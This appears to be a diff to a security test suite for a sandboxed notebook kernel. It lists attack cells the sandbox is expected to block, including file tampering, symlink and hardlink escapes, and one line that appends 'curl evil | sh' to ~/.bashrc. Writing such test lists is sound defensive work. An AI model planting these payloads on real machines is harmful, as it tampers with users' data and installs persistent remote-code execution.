@@ -572,7 +572,8 @@ def _late_events_never_shown(b):
         reply, outputs = execute(b.kc, cell, timeout=CELL_TIMEOUT)
         assert reply["status"] == "ok", show(outputs)
         text = everything(outputs)
-        assert "alert(" not in text and "forged" not in text, f"{cell}: {show(outputs)}"
+        for marker in ("alert(1)", "alert(2)", "forged"):
+            assert marker not in text, f"{cell}: {show(outputs)}"
 
 
 def _kernel_memory_bounded(b):
@@ -663,11 +664,15 @@ _CGROUP_FILES = ["/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory.current",
 
 ATTACKS = [
     # -- file writes ---------------------------------------------------------------------
-    Attack("write-dataset", "file write", "open('data.csv', 'w').write('hacked')\nresult = 1"),
-    Attack("write-dataset-pandas", "file write", "df.head(1).to_csv('data.csv')\nresult = 1"),
+    # Questions run with their scratch as working directory: the notebook folder is named by
+    # its absolute path, as an attacker who read the kernel's profile would.
+    Attack("write-dataset", "file write", lambda b: f"open('{b.nb}/data.csv', 'w').write('hacked')\nresult = 1"),
+    Attack("write-dataset-pandas", "file write", lambda b: f"df.head(1).to_csv('{b.nb}/data.csv')\nresult = 1"),
     Attack("append-dataset", "file write",
-           "with open('data.csv', 'a') as f:\n    f.write('evil,1,1,x,1\\n')\nresult = 1"),
-    Attack("new-file-notebook-dir", "file write", "open('pwned.txt', 'w').write('x')\nresult = 1"),
+           lambda b: f"with open('{b.nb}/data.csv', 'a') as f:\n    f.write('evil,1,1,x,1\\n')\nresult = 1"),
+    Attack("new-file-notebook-dir", "file write", lambda b: f"open('{b.nb}/pwned.txt', 'w').write('x')\nresult = 1"),
+    Attack("write-relative-lands-in-scratch", "file write",
+           "open('data.csv', 'w').write('hacked')\nresult = 1", must_fail=False),
     Attack("write-home", "file write",
            "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh')\nresult = 1"),
     Attack("write-tmp", "file write", f"open('{PWNED}-tmp', 'w').write('x')\nresult = 1"),
@@ -677,8 +682,8 @@ ATTACKS = [
     Attack("utime-dataset", "file write", "import os\nos.utime('data.csv', (0, 0))\nresult = 1"),
     Attack("truncate-dataset", "file write", "import os\nos.truncate('data.csv', 0)\nresult = 1"),
     Attack("symlink-via-scratch", "file write",
-           "import os\nlink = os.path.join(SCRATCH, 'l.csv')\nos.symlink(os.path.abspath('data.csv'), link)\n"
-           "open(link, 'w').write('via symlink')\nresult = 1"),
+           lambda b: "import os\nlink = os.path.join(SCRATCH, 'l.csv')\n"
+           f"os.symlink('{b.nb}/data.csv', link)\nopen(link, 'w').write('via symlink')\nresult = 1"),
     Attack("hardlink-via-scratch", "file write",
            "import os\nlink = os.path.join(SCRATCH, 'h.csv')\nos.link('data.csv', link)\n"
            "open(link, 'w').write('via hardlink')\nresult = 1"),
@@ -929,10 +934,11 @@ ATTACKS = [
            "    f.columns.values[[3, 4]] = f.columns.values[[4, 3]]\nresult = 1", must_fail=False, after=_sum_after),
     Attack("tzset", "next question",
            "import os, time\nos.environ['TZ'] = 'Pacific/Kiritimati'\ntime.tzset()\nresult = 1", must_fail=False,
-           after=_after_question("import time\nresult = time.strftime('%z')", repr(time.strftime('%z')))),
+           after=_after_question("result = datetime.datetime.now().astimezone().strftime('%z')",
+                                 time.strftime('%z'))),
     Attack("int-digit-limit", "next question",
            "import sys\nsys.set_int_max_str_digits(640)\nresult = 1", must_fail=False,
-           after=_after_question("result = len(str(10 ** 5000))", "5001")),
+           after=_after_question("result = len(str(10 ** 4000))", "4001")),
     # ==== OS layer (attack pass 2): parent death, SysV IPC, hidden entries, /sys and /proc ====
     # -- parent death: a worker that clears PR_SET_PDEATHSIG outlives a killed kernel
     #    (see also test_worker_dies_with_a_killed_kernel)
